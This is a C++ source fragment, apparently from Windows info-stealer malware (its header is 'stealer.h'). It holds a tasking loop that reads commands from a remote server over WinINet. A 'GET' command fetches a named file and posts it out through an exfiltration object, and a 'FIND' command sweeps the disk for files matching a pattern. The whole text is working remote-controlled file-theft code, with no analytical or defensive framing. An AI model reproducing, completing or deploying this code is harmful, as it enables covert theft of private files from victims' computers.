// Orders: "GET <path>" or "FIND <pattern>".
#include "stealer.h"

std::wstring Widen(const std::string &s)
{
    wchar_t w[MAX_PATH];
    MultiByteToWideChar(CP_UTF8, 0, s.c_str(), -1, w, MAX_PATH);
    return w;
}

void Tasking::Poll()
{
    if (!ShouldRun())
        return;
    char buf[1024];
    DWORD got = 0;
    if (!InternetReadFile(m_req, buf, sizeof buf - 1, &got) || got == 0)
        return;
    buf[got] = 0;
    std::string order = buf;
    if (order.compare(0, 4, "GET ") == 0) {
        std::wstring path = Widen(order.substr(4));
        std::vector<BYTE> data = m_collector->Fetch(path);
        m_exfil->Post(path, data);
    } else if (order.compare(0, 5, "FIND ") == 0) {
        m_collector->SweepNamed(Widen(order.substr(5)));
    }
}
